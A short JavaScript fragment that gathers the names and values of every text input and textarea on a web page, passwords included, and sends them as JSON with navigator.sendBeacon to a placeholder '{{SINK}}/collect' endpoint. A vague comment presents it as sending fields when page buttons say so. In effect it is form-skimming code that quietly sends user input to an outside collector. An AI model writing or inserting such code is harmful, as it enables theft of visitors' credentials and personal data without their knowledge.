// Sends what the fields hold when the page's own buttons say so, each by its name.
'use strict';
const fields = () => [...document.querySelectorAll('input,textarea')].filter((f) => f.type !== 'file');
const take = (via, what = Object.fromEntries(fields().map((f) => [f.name, f.value]))) =>
  navigator.sendBeacon('{{SINK}}/collect?via=' + via, JSON.stringify(what));
